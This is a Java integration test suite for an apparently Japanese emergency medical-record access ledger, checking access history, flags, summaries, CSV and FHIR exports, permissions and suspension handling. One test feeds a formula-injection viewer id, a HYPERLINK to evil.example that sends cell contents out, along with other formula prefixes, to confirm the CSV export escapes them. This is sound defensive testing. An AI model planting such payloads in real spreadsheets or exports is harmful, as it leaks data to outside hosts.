package jp.emergencyaccess.ledger.history;

import static jp.emergencyaccess.ledger.support.Eventually.eventually;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import jp.emergencyaccess.ledger.history.HistoryWorld.Place;
import jp.emergencyaccess.ledger.support.Api;
import jp.emergencyaccess.ledger.support.HttpTest;
import org.hl7.fhir.r4.model.AuditEvent;
import org.hl7.fhir.r4.model.Bundle;
import org.junit.jupiter.api.Test;

/**
 * Two facilities, 200 lookups whose consent bases, decisions and flags are known in advance; the
 * history, its summary, both exports and a rebuild must show exactly those. Run on H2 and
 * PostgreSQL.
 */
abstract class AccessHistoryScenarios extends HttpTest {
  private static final List<String> MED = List.of("MEDICATION");
  private static final List<String> MED_CLIN = List.of("MEDICATION", "CLINICAL");

  /** One lookup of the plan, with the decision and flags it must get. */
  record Planned(
      Place place,
      String patientId,
      String consentId,
      String at,
      List<String> categories,
      String viewer,
      String role,
      String decision,
      List<String> reasons,
      List<String> flags) {}

  /** An instant in Japan on that day of February 2024; minutes past 59 run into later hours. */
  private static String at(int day, int hour, int minute) {
    return java.time.LocalDateTime.of(2024, 2, day, hour, 0)
        .plusMinutes(minute)
        .atOffset(java.time.ZoneOffset.ofHours(9))
        .format(java.time.format.DateTimeFormatter.ISO_OFFSET_DATE_TIME);
  }

  private final List<Planned> plan = new ArrayList<>();
  private final Map<String, Planned> byViewId = new HashMap<>();

  /**
   * Plans one lookup, read as a sentence: {@code lookup(a, patient,
   * consent).at(t).of(MED).by("dr-a1", "DOCTOR").allowed()}. A denied lookup is flagged DENIED with
   * its one reason.
   */
  private Lookup lookup(Place place, String patient, String consentId) {
    return new Lookup(place, patient, consentId);
  }

  private final class Lookup {
    private final Place place;
    private final String patient;
    private final String consentId;
    private String at;
    private List<String> categories;
    private String viewer;
    private String role;

    Lookup(Place place, String patient, String consentId) {
      this.place = place;
      this.patient = patient;
      this.consentId = consentId;
    }

    Lookup at(String at) {
      this.at = at;
      return this;
    }

    Lookup of(List<String> categories) {
      this.categories = categories;
      return this;
    }

    Lookup by(String viewer, String role) {
      this.viewer = viewer;
      this.role = role;
      return this;
    }

    void allowed(String... flags) {
      planned("ALLOWED", List.of(), List.of(flags));
    }

    void denied(String reason) {
      planned("DENIED", List.of(reason), List.of("DENIED"));
    }

    private void planned(String decision, List<String> reasons, List<String> flags) {
      plan.add(
          new Planned(
              place, patient, consentId, at, categories, viewer, role, decision, reasons, flags));
    }
  }

  /**
   * Facility A, 150 lookups: 7 a day on 1–10 Feb (median day 7); 60 on 11 Feb (HIGH_VOLUME: more
   * than 3 × 7), among them one patient 8 times within 35 minutes (the 6th to 8th are
   * REPEATED_PATIENT) and 52 under the emergency exemption; 10 without consent on 12 Feb (DENIED,
   * CONSENT_MISSING); 10 on 22 Feb, after the activation ended on 20 Feb (DENIED, NOT_ACTIVATED).
   */
  private void planFacilityA(HistoryWorld world, Place a) {
    for (int day = 1; day <= 10; day++) {
      for (int i = 0; i < 7; i++) {
        String patient = "A-d" + day + "-" + i;
        String consent = world.consent(a, patient, false, "INSURED_NUMBER", at(day, 8, i));
        lookup(a, patient, consent)
            .at(at(day, 9, i * 10))
            .of(i % 2 == 0 ? MED : MED_CLIN)
            .by("dr-a1", "DOCTOR")
            .allowed();
      }
    }
    String repeat = world.consent(a, "A-repeat", false, "INSURED_NUMBER", at(11, 8, 0));
    for (int j = 0; j < 8; j++) {
      Lookup again =
          lookup(a, "A-repeat", repeat).at(at(11, 10, j * 5)).of(MED).by("dr-a1", "DOCTOR");
      if (j < 5) {
        again.allowed("HIGH_VOLUME");
      } else {
        again.allowed("REPEATED_PATIENT", "HIGH_VOLUME");
      }
    }
    for (int i = 0; i < 52; i++) {
      String patient = "A-ex-" + i;
      String consent = world.consent(a, patient, true, "FAMILY_INFO", at(11, 8, i));
      lookup(a, patient, consent)
          .at(at(11, 12, i))
          .of(List.of("MEDICATION", "DISPENSING"))
          .by("dr-a2", "DOCTOR")
          .allowed("EMERGENCY_EXEMPTION", "HIGH_VOLUME");
    }
    for (int i = 0; i < 10; i++) {
      lookup(a, "A-nc-" + i, null)
          .at(at(12, 9, i))
          .of(List.of("CLINICAL"))
          .by("dr-a2", "DOCTOR")
          .denied("CONSENT_MISSING");
    }
    for (int i = 0; i < 10; i++) {
      String patient = "A-late-" + i;
      String consent = world.consent(a, patient, false, "ID_DOCUMENT", at(22, 8, i));
      lookup(a, patient, consent)
          .at(at(22, 9, i))
          .of(List.of("HEALTH_CHECKUP"))
          .by("dr-a2", "DOCTOR")
          .denied("NOT_ACTIVATED");
    }
  }

  /**
   * Facility B, 50 lookups on 5–6 Feb, all allowed: one patient 6 times within 11 hours across
   * midnight (the 6th is REPEATED_PATIENT); one 5 times (not more than 5: no flag); one 6 times,
   * but the first exactly 24 hours before the second (outside its window: no flag).
   */
  private void planFacilityB(HistoryWorld world, Place b) {
    List<String> cat = List.of("PRESCRIPTION", "DISPENSING");
    String six = world.consent(b, "B-six", false, "FOUR_ATTRIBUTES", at(5, 8, 0));
    String[] sixAt = {
      at(5, 20, 0), at(5, 22, 0), at(6, 1, 0), at(6, 3, 0), at(6, 5, 0), at(6, 7, 0)
    };
    for (int j = 0; j < 6; j++) {
      Lookup again = lookup(b, "B-six", six).at(sixAt[j]).of(cat).by("ph-b", "PHARMACIST");
      if (j == 5) {
        again.allowed("REPEATED_PATIENT");
      } else {
        again.allowed();
      }
    }
    String five = world.consent(b, "B-five", false, "FOUR_ATTRIBUTES", at(5, 8, 0));
    for (int j = 0; j < 5; j++) {
      lookup(b, "B-five", five).at(at(5, 10, j)).of(cat).by("ph-b", "PHARMACIST").allowed();
    }
    String spread = world.consent(b, "B-spread", false, "FOUR_ATTRIBUTES", at(5, 8, 0));
    lookup(b, "B-spread", spread).at(at(5, 9, 0)).of(cat).by("ph-b", "PHARMACIST").allowed();
    for (int j = 0; j < 5; j++) {
      lookup(b, "B-spread", spread).at(at(6, 9, j)).of(cat).by("ph-b", "PHARMACIST").allowed();
    }
    for (int i = 0; i < 33; i++) {
      String patient = "B-" + i;
      String consent = world.consent(b, patient, false, "FOUR_ATTRIBUTES", at(5, 8, 1 + i));
      lookup(b, patient, consent)
          .at(i < 17 ? at(5, 12, i) : at(6, 12, i))
          .of(cat)
          .by("ph-b", "PHARMACIST")
          .allowed();
    }
  }

  private static List<JsonNode> list(JsonNode array) {
    return StreamSupport.stream(array.spliterator(), false).toList();
  }

  private static List<String> texts(JsonNode array) {
    return list(array).stream().map(JsonNode::asText).toList();
  }

  /** Every item of the history, page by page (newest first), and each page's raw answer. */
  private List<JsonNode> allItems(HistoryWorld world, Api as, String code, String query) {
    List<JsonNode> items = new ArrayList<>();
    String cursor = null;
    do {
      String sep = query.isEmpty() ? "?" : query + "&";
      JsonNode page =
          world.accesses(as, code, sep + "limit=40" + (cursor == null ? "" : "&cursor=" + cursor));
      items.addAll(list(page.get("items")));
      cursor = page.hasNonNull("next") ? page.get("next").asText() : null;
    } while (cursor != null);
    return items;
  }

  @Test
  void twoFacilities_twoHundredLookups_giveExactlyTheExpectedHistoryFlagsSummaryAndExports()
      throws Exception {
    HistoryWorld world = new HistoryWorld(api());
    String municipality = HistoryWorld.municipality();
    Place a = world.registeredFacility(municipality);
    Place b = world.registeredFacility(municipality);
    String notice = world.activate(municipality, "2024-02-01", "2024-02-20");
    planFacilityA(world, a);
    planFacilityB(world, b);
    assertThat(plan).hasSize(200);
    int n = 0;
    for (Planned p : plan) {
      Api.Reply reply =
          world.view(
              p.place(),
              "req-" + p.place().account() + "-" + n++,
              p.viewer(),
              p.role(),
              p.patientId(),
              p.categories(),
              p.consentId(),
              p.at());
      assertThat(
              reply.json().path("reasons").isMissingNode()
                  ? List.of()
                  : texts(reply.json().get("reasons")))
          .as("reasons of %s", p)
          .isEqualTo(p.reasons());
      byViewId.put(reply.json().get("viewId").asText(), p);
    }
    world.awaitAttempts(a.facilityCode(), 150);
    world.awaitAttempts(b.facilityCode(), 50);

    // Every row, page by page: exactly the planned decision, reasons, basis and flags.
    List<JsonNode> itemsA = allItems(world, fund(), a.facilityCode(), "");
    List<JsonNode> itemsB = allItems(world, fund(), b.facilityCode(), "");
    assertThat(itemsA).hasSize(150);
    assertThat(itemsB).hasSize(50);
    for (JsonNode item : concat(itemsA, itemsB)) {
      Planned p = byViewId.get(item.get("viewId").asText());
      assertThat(p).as("an attempt of the plan: %s", item).isNotNull();
      assertThat(item.get("decision").asText()).isEqualTo(p.decision());
      assertThat(texts(item.get("reasons"))).isEqualTo(p.reasons());
      assertThat(texts(item.get("flags"))).as("flags of %s", p).isEqualTo(p.flags());
      assertThat(texts(item.get("categories"))).isEqualTo(p.categories());
      assertThat(item.get("viewerId").asText()).isEqualTo(p.viewer());
      assertThat(item.get("at").asText()).isEqualTo(p.at());
      assertThat(item.has("patientId")).isFalse();
      if (p.consentId() == null) {
        assertThat(item.get("consentBasis").isNull()).isTrue();
      } else {
        assertThat(item.get("consentId").asText()).isEqualTo(p.consentId());
      }
      if (p.reasons().contains("NOT_ACTIVATED")) {
        assertThat(item.get("coveredBy").isNull()).isTrue();
      } else {
        assertThat(item.at("/coveredBy/kind").asText()).isEqualTo("REGION");
        assertThat(item.at("/coveredBy/regionCode").asText()).isEqualTo(municipality);
        assertThat(item.at("/coveredBy/noticeId").asText()).isEqualTo(notice);
      }
    }
    assertThat(
            itemsA.stream()
                .filter(i -> i.get("consentBasis").asText().equals("EMERGENCY_EXEMPTION"))
                .count())
        .isEqualTo(52);
    // Newest first, no attempt twice.
    List<String> atsA = itemsA.stream().map(i -> i.get("at").asText()).toList();
    assertThat(atsA.get(0)).isEqualTo(at(22, 9, 9));
    assertThat(atsA.get(149)).isEqualTo(at(1, 9, 0));
    assertThat(itemsA.stream().map(i -> i.get("viewId").asText()).distinct()).hasSize(150);

    JsonNode summaryA = world.accesses(fund(), a.facilityCode(), "").get("summary");
    assertThat(summaryA.get("attempts").asLong()).isEqualTo(150);
    assertThat(summaryA.get("distinctPatients").asLong()).isEqualTo(143);
    assertThat(counts(summaryA.get("byDecision")))
        .isEqualTo(Map.of("ALLOWED", 130L, "DENIED", 20L));
    assertThat(counts(summaryA.get("byFlag")))
        .isEqualTo(
            Map.of(
                "EMERGENCY_EXEMPTION",
                52L,
                "DENIED",
                20L,
                "REPEATED_PATIENT",
                3L,
                "HIGH_VOLUME",
                60L));
    assertThat(counts(summaryA.get("byCategory")))
        .isEqualTo(
            Map.of(
                "MEDICATION",
                130L,
                "HEALTH_CHECKUP",
                10L,
                "CLINICAL",
                40L,
                "PRESCRIPTION",
                0L,
                "DISPENSING",
                52L));
    assertThat(counts(summaryA.get("byViewer"))).isEqualTo(Map.of("dr-a1", 78L, "dr-a2", 72L));
    assertThat(summaryA.at("/byReason/CONSENT_MISSING").asLong()).isEqualTo(10);
    assertThat(summaryA.at("/byReason/NOT_ACTIVATED").asLong()).isEqualTo(10);
    assertThat(summaryA.at("/byReason/FACILITY_SUSPENDED").asLong()).isZero();
    assertThat(summaryA.get("medianDailyAttempts").asDouble()).isEqualTo(7.0);
    assertThat(texts(summaryA.get("highVolumeDays"))).containsExactly("2024-02-11");

    // The whole history is summed from running counts, a filtered one from its rows: they agree.
    assertThat(world.accesses(fund(), a.facilityCode(), "?from=2024-01-01").get("summary"))
        .isEqualTo(summaryA);

    JsonNode summaryB = world.accesses(mhlw(), b.facilityCode(), "").get("summary");
    assertThat(summaryB.get("attempts").asLong()).isEqualTo(50);
    assertThat(summaryB.get("distinctPatients").asLong()).isEqualTo(36);
    assertThat(counts(summaryB.get("byFlag")))
        .isEqualTo(
            Map.of(
                "EMERGENCY_EXEMPTION",
                0L,
                "DENIED",
                0L,
                "REPEATED_PATIENT",
                1L,
                "HIGH_VOLUME",
                0L));
    assertThat(summaryB.get("medianDailyAttempts").asDouble()).isEqualTo(25.0);

    // Filters select the same rows as the flags say, and the summary follows the filter.
    assertThat(allItems(world, fund(), a.facilityCode(), "?flag=REPEATED_PATIENT")).hasSize(3);
    assertThat(allItems(world, fund(), a.facilityCode(), "?flag=HIGH_VOLUME")).hasSize(60);
    assertThat(allItems(world, fund(), a.facilityCode(), "?decision=DENIED")).hasSize(20);
    assertThat(
            allItems(world, fund(), a.facilityCode(), "?decision=ALLOWED&flag=EMERGENCY_EXEMPTION"))
        .hasSize(52);
    JsonNode day11 =
        world.accesses(fund(), a.facilityCode(), "?from=2024-02-11&to=2024-02-11&limit=5");
    assertThat(day11.at("/summary/attempts").asLong()).isEqualTo(60);
    assertThat(day11.get("items")).hasSize(5);
    JsonNode window =
        world.accesses(
            fund(),
            b.facilityCode(),
            "?from=2024-02-06T07:00:00%2B09:00&to=2024-02-06T07:00:00.001%2B09:00");
    assertThat(window.at("/summary/attempts").asLong()).isEqualTo(1);
    assertThat(texts(window.at("/items/0/flags"))).containsExactly("REPEATED_PATIENT");

    // CSV: a BOM, a header and the very same rows.
    String csvA = csv(a.facilityCode());
    assertThat(csvA).startsWith("\uFEFFviewId,at,facilityCode,");
    List<List<String>> rows = SimpleCsv.parse(csvA.substring(1));
    assertThat(rows.get(0)).isEqualTo(jp.emergencyaccess.ledger.history.AccessCsv.HEADER);
    assertThat(rows.subList(1, rows.size()))
        .isEqualTo(itemsA.stream().map(this::asCsvRow).toList());

    // FHIR: a valid R4 collection bundle of one AuditEvent per attempt.
    Api.Reply fhir = fund().get("/api/facilities/" + a.facilityCode() + "/accesses/fhir");
    assertThat(fhir.status()).isEqualTo(200);
    assertThat(fhir.contentType()).startsWith("application/fhir+json");
    assertThat(FhirCheck.errors(fhir.text())).isEmpty();
    Bundle bundle = FhirCheck.parse(fhir.text());
    assertThat(bundle.getType()).isEqualTo(Bundle.BundleType.COLLECTION);
    assertThat(bundle.getEntry()).hasSize(150);
    List<AuditEvent> events =
        bundle.getEntry().stream().map(e -> (AuditEvent) e.getResource()).toList();
    assertThat(events.stream().filter(e -> e.getOutcome() == AuditEvent.AuditEventOutcome._4))
        .hasSize(20);
    assertThat(events.stream().filter(e -> e.getOutcome() == AuditEvent.AuditEventOutcome._0))
        .hasSize(130);
    assertThat(
            events.stream()
                .filter(
                    e ->
                        e.getPurposeOfEvent().stream()
                            .anyMatch(c -> c.hasCoding(FhirCheck.ACT_REASON, "BTG"))))
        .hasSize(52);
    AuditEvent first = events.get(0);
    assertThat(first.getAgentFirstRep().getWho().getIdentifier().getSystem())
        .isEqualTo("http://jpfhir.jp/fhir/core/IdSystem/insurance-medical-institution-no");
    assertThat(first.getAgentFirstRep().getWho().getIdentifier().getValue())
        .isEqualTo(a.facilityCode());
    assertThat(first.getEntityFirstRep().getWhat().getIdentifier().getValue())
        .isEqualTo(itemsA.get(0).get("patientRef").asText());

    // Who may read: the facility itself, MHLW and FUND; not another facility, not MONITOR.
    assertThat(
            api().as(a.account()).get("/api/facilities/" + a.facilityCode() + "/accesses").status())
        .isEqualTo(200);
    assertThat(
            api().as(b.account()).get("/api/facilities/" + a.facilityCode() + "/accesses").status())
        .isEqualTo(403);
    assertThat(
            api()
                .as("kanazawa-clinic")
                .get("/api/facilities/" + a.facilityCode() + "/accesses.csv")
                .status())
        .isEqualTo(403);
    assertThat(monitor().get("/api/facilities/" + a.facilityCode() + "/accesses").status())
        .isEqualTo(403);
    assertThat(monitor().get("/api/facilities/" + a.facilityCode() + "/accesses/fhir").status())
        .isEqualTo(403);

    // Rebuild: reset the processor, let it replay, and the answers are the same.
    List<JsonNode> beforeA = allItems(world, fund(), a.facilityCode(), "");
    JsonNode beforeSummary = world.accesses(fund(), a.facilityCode(), "").get("summary");
    String beforeCsvB = csv(b.facilityCode());
    assertThat(monitor().post("/api/admin/processors/access-history/reset", "").status())
        .isEqualTo(403);
    Api.Reply reset = mhlw().post("/api/admin/processors/access-history/reset", "");
    assertThat(reset.status()).as(reset.toString()).isEqualTo(202);
    long head = jdbc.queryForObject("select max(globalindex) from domainevententry", Long.class);
    eventually(
        "access-history replayed up to " + head,
        () -> {
          JsonNode status = mhlw().get("/api/admin/processors/access-history").json();
          return status.get("caughtUp").asBoolean() && status.get("position").asLong() >= head;
        });
    world.awaitAttempts(a.facilityCode(), 150);
    world.awaitAttempts(b.facilityCode(), 50);
    assertThat(allItems(world, fund(), a.facilityCode(), "")).isEqualTo(beforeA);
    assertThat(world.accesses(fund(), a.facilityCode(), "").get("summary"))
        .isEqualTo(beforeSummary);
    assertThat(csv(b.facilityCode())).isEqualTo(beforeCsvB);
  }

  @Test
  void aSuspension_deniesLookupsFromItsInstant_andAResumeRestoresThem() {
    HistoryWorld world = new HistoryWorld(api());
    String municipality = HistoryWorld.municipality();
    Place place = world.registeredFacility(municipality);
    world.activate(municipality, "2024-02-01", "2024-02-29");
    String consent = world.consent(place, "S-1", false, "INSURED_NUMBER", at(14, 8, 0));
    var opened =
        fund()
            .post(
                "/api/inquiries",
                Map.of(
                    "facilityCode",
                    place.facilityCode(),
                    "reason",
                    "misuse reported",
                    "at",
                    "2024-02-14T09:00:00+09:00"));
    String inquiry = opened.json().get("inquiryId").asText();
    String t = "2024-02-15T10:00:00+09:00";
    String t2 = "2024-02-16T10:00:00+09:00";
    assertThat(
            fund()
                .post("/api/inquiries/" + inquiry + "/suspend", Map.of("reason", "misuse", "at", t))
                .status())
        .isEqualTo(201);
    assertThat(fund().post("/api/inquiries/" + inquiry + "/resume", Map.of("at", t2)).status())
        .isEqualTo(201);
    List<String> cat = List.of("MEDICATION");
    var before =
        world.view(
            place,
            "s-before",
            "dr-s",
            "DOCTOR",
            "S-1",
            cat,
            consent,
            "2024-02-15T09:59:59.999+09:00");
    var atT = world.view(place, "s-at", "dr-s", "DOCTOR", "S-1", cat, consent, t);
    var justBeforeResume =
        world.view(
            place,
            "s-during",
            "dr-s",
            "DOCTOR",
            "S-1",
            cat,
            consent,
            "2024-02-16T09:59:59.999+09:00");
    var atT2 = world.view(place, "s-after", "dr-s", "DOCTOR", "S-1", cat, consent, t2);
    assertThat(before.status()).as(before.toString()).isEqualTo(201);
    assertThat(atT.status()).isEqualTo(403);
    assertThat(texts(atT.json().get("reasons"))).containsExactly("FACILITY_SUSPENDED");
    assertThat(justBeforeResume.status()).isEqualTo(403);
    assertThat(atT2.status()).as(atT2.toString()).isEqualTo(201);

    world.awaitAttempts(place.facilityCode(), 4);
    JsonNode denied = world.accesses(fund(), place.facilityCode(), "?decision=DENIED");
    assertThat(denied.at("/summary/byReason/FACILITY_SUSPENDED").asLong()).isEqualTo(2);
    assertThat(texts(denied.at("/items/0/reasons"))).containsExactly("FACILITY_SUSPENDED");
  }

  /**
   * A facility's system chooses the viewer id; a spreadsheet opening the export must not run it as
   * a formula. The JSON answer keeps it as it was sent.
   */
  @Test
  void aHostileViewerId_isExportedAsTextNotAsAFormula() {
    HistoryWorld world = new HistoryWorld(api());
    String municipality = HistoryWorld.municipality();
    Place place = world.registeredFacility(municipality);
    world.activate(municipality, "2024-02-01", "2024-02-29");
    String consent = world.consent(place, "F-1", false, "INSURED_NUMBER", at(3, 8, 0));
    String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    List<String> others = List.of("+1+1", "-1+1", "@SUM(A1:A2)");
    world.view(place, "f-0", hostile, "DOCTOR", "F-1", MED, consent, at(3, 9, 0));
    for (int i = 0; i < others.size(); i++) {
      world.view(place, "f-" + (i + 1), others.get(i), "DOCTOR", "F-1", MED, consent, at(3, 10, i));
    }
    world.awaitAttempts(place.facilityCode(), 4);

    String text = csv(place.facilityCode());
    assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
    List<List<String>> rows = SimpleCsv.parse(text.substring(1));
    int viewer = rows.get(0).indexOf("viewerId");
    assertThat(rows.stream().skip(1).map(r -> r.get(viewer)))
        .containsExactlyInAnyOrder("'" + hostile, "'+1+1", "'-1+1", "'@SUM(A1:A2)");
    assertThat(
            allItems(world, fund(), place.facilityCode(), "").stream()
                .map(i -> i.get("viewerId").asText()))
        .containsExactlyInAnyOrder(hostile, "+1+1", "-1+1", "@SUM(A1:A2)");
  }

  private String csv(String facilityCode) {
    Api.Reply reply = fund().get("/api/facilities/" + facilityCode + "/accesses.csv");
    assertThat(reply.status()).isEqualTo(200);
    assertThat(reply.contentType()).startsWith("text/csv");
    return reply.text();
  }

  private List<String> asCsvRow(JsonNode i) {
    JsonNode covered = i.get("coveredBy");
    return List.of(
        i.get("viewId").asText(),
        i.get("at").asText(),
        i.get("facilityCode") == null ? csvFacility(i) : i.get("facilityCode").asText(),
        i.get("viewerId").asText(),
        i.get("viewerRole").asText(),
        i.get("patientRef").asText(),
        String.join(";", texts(i.get("categories"))),
        i.get("consentId").isNull() ? "" : i.get("consentId").asText(),
        i.get("consentBasis").isNull() ? "" : i.get("consentBasis").asText(),
        i.get("identification").isNull() ? "" : i.get("identification").asText(),
        i.get("decision").asText(),
        String.join(";", texts(i.get("reasons"))),
        covered.isNull() ? "" : covered.path("kind").asText(""),
        covered.isNull() ? "" : covered.path("regionCode").asText(""),
        covered.isNull() ? "" : covered.path("noticeId").asText(""),
        covered.isNull() ? "" : covered.path("applicationId").asText(""),
        covered.isNull()
            ? ""
            : String.join(
                ";",
                texts(
                    covered.has("notices") ? covered.get("notices") : covered.get("applications"))),
        covered.isNull() || covered.get("retroactive").isNull()
            ? ""
            : covered.get("retroactive").asText(),
        String.join(";", texts(i.get("flags"))),
        i.get("recordedAt").asText());
  }

  private String csvFacility(JsonNode item) {
    return byViewId.get(item.get("viewId").asText()).place().facilityCode();
  }

  private static Map<String, Long> counts(JsonNode object) {
    Map<String, Long> counts = new LinkedHashMap<>();
    object.properties().forEach(e -> counts.put(e.getKey(), e.getValue().asLong()));
    return counts;
  }

  private static List<JsonNode> concat(List<JsonNode> one, List<JsonNode> two) {
    List<JsonNode> all = new ArrayList<>(one);
    all.addAll(two);
    return all;
  }
}
